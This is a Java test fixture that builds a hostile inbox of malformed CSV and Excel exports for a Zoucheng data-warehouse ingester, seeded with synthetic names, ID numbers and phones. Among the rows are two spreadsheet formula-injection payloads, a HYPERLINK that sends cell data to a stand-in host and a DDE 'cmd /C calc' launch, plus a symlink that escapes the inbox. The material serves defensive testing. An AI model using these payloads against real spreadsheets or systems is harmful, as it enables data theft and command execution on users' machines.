package cn.zoucheng.warehouse.cli;

import cn.zoucheng.warehouse.schemas.values.IdNumbers;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.function.Consumer;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * An inbox of what attackers and careless clerks send, made file by file: unbalanced quotes,
 * shifted rows, personal data under headers the contract does not know, amounts and numbers no
 * column holds, dates before the experiment zone, empty files and empty re-deliveries, formulas
 * without values, corrupt and truncated workbooks, undecodable bytes, a named pipe, links out of
 * the inbox, backups and lock files. Every clear personal value it plants is remembered, so that a
 * test can look for it everywhere afterwards.
 */
final class HostileCorpus {
  static final String PROXY_HEADER =
      "代办编号,镇街,村(社区),代办员,代办事项,申请人,身份证号,联系电话,受理方式,受理日期,承诺办结日期,办结日期,办理状态,满意度";

  /** The five empty cells of the extra columns a row without them still has. */
  static final String EXTRAS = ",,,,,";

  final Path inbox;
  final Path outside;

  /** Every clear personal value planted: names, ID numbers, phones as written and as digits. */
  final Set<String> planted = new LinkedHashSet<>();

  /** Every entry made in the inbox, relative to it. */
  final List<String> entries = new ArrayList<>();

  private int people;

  HostileCorpus(Path tmp) {
    this.inbox = tmp.resolve("inbox");
    this.outside = tmp.resolve("outside");
  }

  /** A name not found anywhere else in the warehouse. */
  String name() {
    String[] names = {
      "欧阳锋", "黄药师", "洪七公", "段智兴", "周伯通", "裘千仞", "林朝英", "王重阳", "慕容复", "乔峰", "虚竹子", "李秋水", "丁春秋",
      "鸠摩智", "萧远山", "游坦之"
    };
    return plant(names[people++ % names.length]);
  }

  /** A valid ID number of Zoucheng, one per call. */
  String id() {
    String first17 =
        "3708831975" + String.format("%02d", 1 + people % 12) + "1" + (people++ % 9) + "003";
    return plant(first17 + IdNumbers.checkCharacter(first17));
  }

  /** A mobile number, planted as written and as its digits. */
  String phone(String written) {
    plant(written.replaceAll("\\D", "").replaceFirst("^86(?=1)", ""));
    return plant(written);
  }

  private String plant(String v) {
    planted.add(v);
    return v;
  }

  /** A proxy case row of 凫山街道: id, agent, the applicant (name, ID, phone), accepted on. */
  static String proxy(
      String id, String agent, String name, String idNumber, String phone, String accepted) {
    return proxy("凫山街道", "凫山社区", id, agent, name, idNumber, phone, accepted);
  }

  /** A proxy case row of a town's village, rated 4. */
  static String proxy(
      String town,
      String village,
      String id,
      String agent,
      String name,
      String idNumber,
      String phone,
      String accepted) {
    return String.join(
        ",", id, town, village, agent, "S01", name, idNumber, phone, "集中办公日", accepted, "", "",
        "办理中", "4");
  }

  void csv(String rel, Charset cs, String... lines) {
    bytes(rel, (String.join("\r\n", lines) + "\r\n").getBytes(cs));
  }

  void bytes(String rel, byte[] content) {
    try {
      Path p = inbox.resolve(rel);
      Files.createDirectories(p.getParent());
      Files.write(p, content);
      entries.add(rel);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  void xlsx(String rel, Consumer<XSSFWorkbook> sheets) {
    try (XSSFWorkbook wb = new XSSFWorkbook();
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      sheets.accept(wb);
      wb.write(out);
      bytes(rel, out.toByteArray());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A proxy sheet: title row, header, the given rows (cells as text). */
  static Sheet proxySheet(XSSFWorkbook wb, String name, List<String> rows) {
    Sheet s = wb.createSheet(name);
    s.createRow(0).createCell(0).setCellValue("2026年10月民生代办台账");
    String[] header = PROXY_HEADER.split(",");
    Row h = s.createRow(1);
    for (int i = 0; i < header.length; i++) {
      h.createCell(i).setCellValue(header[i]);
    }
    for (int r = 0; r < rows.size(); r++) {
      String[] cells = rows.get(r).split(",", -1);
      Row row = s.createRow(2 + r);
      for (int i = 0; i < cells.length; i++) {
        row.createCell(i).setCellValue(cells[i]);
      }
    }
    return s;
  }

  /** Writes the whole corpus. */
  HostileCorpus write() throws Exception {
    Files.createDirectories(inbox);
    Files.createDirectories(outside);
    String day = "2026-11-03/";
    // 1. a town's proxy cases: phones in every spelling, shifted rows, ID numbers out of place,
    // personal data under unknown headers, formulas as text, numbers and dates no column holds
    csv(
        day + "凫山街道_2026-10_proxy_cases.csv",
        StandardCharsets.UTF_8,
        PROXY_HEADER + ",身份证号码,手机号码,户主姓名,联系电话,备注",
        proxy("H1", "A01", name(), id(), phone("+86 138 1111 2222"), "2026-10-08")
            + ","
            + id()
            + ","
            + phone("139-1111-2222")
            + ","
            + name()
            + ","
            + phone("13711112222")
            + ",请回电"
            + phone("13611112222"),
        proxy("H2", "A0,1", name(), id(), phone("13811113333"), "2026-10-08") + EXTRAS + "见附件",
        proxy("H3", "", name(), id(), phone("13811114444"), "2026-10-08").replace(",,S01", ",S01")
            + EXTRAS,
        proxy("H4", "A01", name(), id(), phone("(0537)2345678"), "2026-10-08")
                .replace("集中办公日", id())
            + EXTRAS,
        proxy(
                "H5",
                "电话" + phone("139 2222 3333"),
                name(),
                id(),
                phone("138-2222-4444"),
                "2026-10-08")
            + EXTRAS,
        proxy("H6", "=HYPERLINK(\"http://x.example/?\"&A1)", "", "", "", "2026-10-08") + EXTRAS,
        proxy("H7", "A01", name(), id(), phone("13822225555"), "2026-10-08")
                .replaceFirst(",4$", ",99999999999")
            + EXTRAS,
        proxy("H8", "A01", name(), id(), phone("13822226666"), "0001-01-01") + EXTRAS,
        proxy("H9", "A01", name(), id(), phone("13822227777"), "1900-01-01") + EXTRAS);
    // 2. a quote that never closes where it should: six lines, five rows
    csv(
        day + "钢山街道_2026-10_proxy_cases.csv",
        StandardCharsets.UTF_8,
        PROXY_HEADER,
        proxy("钢山街道", "钢山社区", "G1", "A01", name(), id(), phone("13833331111"), "2026-10-09"),
        proxy("钢山街道", "钢山社区", "G2", "\"A01", name(), id(), phone("13833332222"), "2026-10-09"),
        proxy("钢山街道", "钢山社区", "G3", "A01", name(), id(), phone("13833333333"), "2026-10-09") + "\"",
        proxy("钢山街道", "钢山社区", "G4", "A01", name(), id(), phone("13833334444"), "2026-10-09"),
        proxy("钢山街道", "钢山社区", "G5", "A01", name(), id(), phone("13833335555"), "2026-10-09"));
    // 3. an amount beyond DECIMAL(16,2) beside a good one
    csv(
        day + "凫山街道_2026-10_expense_vouchers.csv",
        StandardCharsets.UTF_8,
        "单据编号,镇街,村(社区),发生日期,金额(元),摘要",
        "V1,凫山街道,凫山社区,2026-10-03,120.50,办公用品",
        "V2,凫山街道,凫山社区,2026-10-04,12345678901234567.00,@SUM(1+1)*cmd|' /C calc'!A0");
    // 4. disputes, then a header-only re-delivery and an all-bad one
    String disputes = "纠纷编号,镇街,村(社区),登记日期";
    csv(
        day + "凫山街道_2026-10_disputes.csv",
        StandardCharsets.UTF_8,
        disputes,
        "D1,凫山街道,凫山社区,2026-10-01",
        "D2,凫山街道,凫山社区,2026-10-02",
        "D3,凫山街道,凫山社区,2026-10-03",
        "D4,凫山街道,凫山社区,2026-10-04");
    csv("2026-11-04/凫山街道_2026-10_disputes.csv", StandardCharsets.UTF_8, disputes);
    csv(
        day + "钢山街道_2026-10_disputes.csv",
        StandardCharsets.UTF_8,
        disputes,
        "E1,钢山街道,钢山社区,2026-10-01");
    csv(
        "2026-11-05/钢山街道_2026-10_disputes.csv",
        StandardCharsets.UTF_8,
        disputes,
        "E1,钢山街道,无此村,2026-10-01");
    // 5. a first delivery of a header alone; GB18030; undecodable; 0 bytes
    csv(day + "千泉街道_2026-10_petitions.csv", StandardCharsets.UTF_8, "信访编号,镇街,村(社区),登记日期,信访类别,办理状态");
    csv(
        day + "中心店镇_2026-10_petitions.csv",
        Charset.forName("GB18030"),
        "信访编号,镇街,村(社区),登记日期,信访类别,信访人,身份证号,办理状态",
        "P1,中心店镇,中心店社区,2026-10-05,民生类," + name() + "," + id() + ",办理中");
    bytes(
        day + "石墙镇_2026-10_petitions.csv",
        concat(
            ("信访编号,镇街,信访人\r\nP1,石墙镇," + name() + "\r\n").getBytes(StandardCharsets.UTF_8),
            new byte[] {(byte) 0xFF, 0x41}));
    bytes(day + "大束镇_2026-10_suggestions.csv", new byte[0]);
    // 6. workbooks: two sheets with the header and a notes sheet, formulas without values,
    // #DIV/0!, Excel's day 0; a corrupt cell; a truncated file
    String n1 = name();
    String i1 = id();
    String n2 = name();
    String i2 = id();
    xlsx(
        day + "郭里镇_2026-10_proxy_cases.xlsx",
        wb -> {
          Sheet a =
              proxySheet(
                  wb,
                  "台账",
                  List.of(
                      proxy("郭里镇", "郭里社区", "X1", "A01", n1, i1, "13844441111", "2026-10-10"),
                      proxy("郭里镇", "郭里社区", "X2", "A01", n2, i2, "13844442222", "2026-10-10")));
          a.getRow(2).createCell(13).setCellFormula("2+2");
          a.getRow(3).createCell(13).setCellFormula("1/0");
          wb.getCreationHelper()
              .createFormulaEvaluator()
              .evaluateFormulaCell(a.getRow(3).getCell(13));
          Sheet b =
              proxySheet(
                  wb,
                  "台账(续)",
                  List.of(proxy("郭里镇", "郭里社区", "X3", "A01", n1, i1, "13844441111", "2026-10-10")));
          CellStyle date = wb.createCellStyle();
          date.setDataFormat(wb.getCreationHelper().createDataFormat().getFormat("yyyy-mm-dd"));
          b.getRow(2).getCell(9).setCellValue(0);
          b.getRow(2).getCell(9).setCellStyle(date);
          wb.createSheet("说明").createRow(0).createCell(0).setCellValue("填表说明");
        });
    phone("13844441111");
    phone("13844442222");
    String n3 = name();
    String i3 = id();
    xlsx(
        day + "田黄镇_2026-10_proxy_cases.xlsx",
        wb ->
            proxySheet(
                    wb,
                    "台账",
                    List.of(proxy("田黄镇", "田黄社区", "T1", "A01", n3, i3, "13855551111", "2026-10-11")))
                .getRow(2)
                .createCell(13)
                .setCellValue(4));
    phone("13855551111");
    corruptNumericCell(inbox.resolve(day + "田黄镇_2026-10_proxy_cases.xlsx"));
    byte[] whole = Files.readAllBytes(inbox.resolve(day + "田黄镇_2026-10_proxy_cases.xlsx"));
    bytes(day + "唐村镇_2026-10_proxy_cases.xlsx", Arrays.copyOf(whole, whole.length / 2));
    // 7. numbers and months no column holds
    csv(
        "2026-08-03/香城镇_2026-07_democratic_reviews.csv",
        StandardCharsets.UTF_8,
        "测评编号,镇街,村(社区),会议日期,干部姓名,优秀票,称职票,基本称职票,不称职票",
        "R1,香城镇,香城社区,2026-07-05," + name() + ",3000000000,1,1,1");
    csv(
        day + "凫山街道_2026-10_disclosures.csv",
        StandardCharsets.UTF_8,
        "镇街,村(社区),公开期间,公开类别,事项代码,公开日期",
        "凫山街道,凫山社区,1999-12,党务,D01,2026-11-05");
    // 8. what is no export at all: a pipe, links out of the inbox and to nothing, backups,
    // lock files, hidden files, bad names
    Path pipe = inbox.resolve(day + "峄山镇_2026-10_disputes.csv");
    if (new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor() != 0) {
      throw new IOException("mkfifo failed");
    }
    entries.add(day + "峄山镇_2026-10_disputes.csv");
    Files.writeString(
        outside.resolve("secret.csv"),
        PROXY_HEADER
            + "\n"
            + proxy("S1", "A01", name(), id(), phone("13866661111"), "2026-10-01")
            + "\n");
    Files.createSymbolicLink(
        inbox.resolve(day + "张庄镇_2026-10_proxy_cases.csv"), outside.resolve("secret.csv"));
    entries.add(day + "张庄镇_2026-10_proxy_cases.csv");
    Files.createSymbolicLink(
        inbox.resolve(day + "城前镇_2026-10_disputes.csv"), outside.resolve("gone.csv"));
    entries.add(day + "城前镇_2026-10_disputes.csv");
    Files.createSymbolicLink(inbox.resolve("2026-11-06"), outside);
    entries.add("2026-11-06");
    csv(
        "_备份/凫山街道_2026-10_proxy_cases.csv",
        StandardCharsets.UTF_8,
        PROXY_HEADER,
        proxy("B1", "A01", name(), id(), phone("13866662222"), "2026-10-01"));
    bytes(day + ".~lock.凫山街道_2026-10_proxy_cases.csv#", name().getBytes(StandardCharsets.UTF_8));
    bytes(day + "~$郭里镇_2026-10_proxy_cases.xlsx", id().getBytes(StandardCharsets.UTF_8));
    bytes(".DS_Store", new byte[] {0, 1, 2});
    csv(day + "凫山街道10月台账.csv", StandardCharsets.UTF_8, PROXY_HEADER);
    csv(day + "凫山街道_2026-10_meetings.csv", StandardCharsets.UTF_8, PROXY_HEADER);
    return this;
  }

  /** Makes the first sheet's numeric cell holding 4 hold a text no number can be read from. */
  private static void corruptNumericCell(Path xlsx) throws IOException {
    byte[] in = Files.readAllBytes(xlsx);
    try (var zin = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(in));
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        var zout = new java.util.zip.ZipOutputStream(bytes)) {
      for (java.util.zip.ZipEntry e; (e = zin.getNextEntry()) != null; ) {
        byte[] content = zin.readAllBytes();
        if (e.getName().equals("xl/worksheets/sheet1.xml")) {
          content =
              new String(content, StandardCharsets.UTF_8)
                  .replace("<v>4.0</v>", "<v>四</v>")
                  .getBytes(StandardCharsets.UTF_8);
        }
        zout.putNextEntry(new java.util.zip.ZipEntry(e.getName()));
        zout.write(content);
        zout.closeEntry();
      }
      zout.finish();
      Files.write(xlsx, bytes.toByteArray());
    }
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }
}
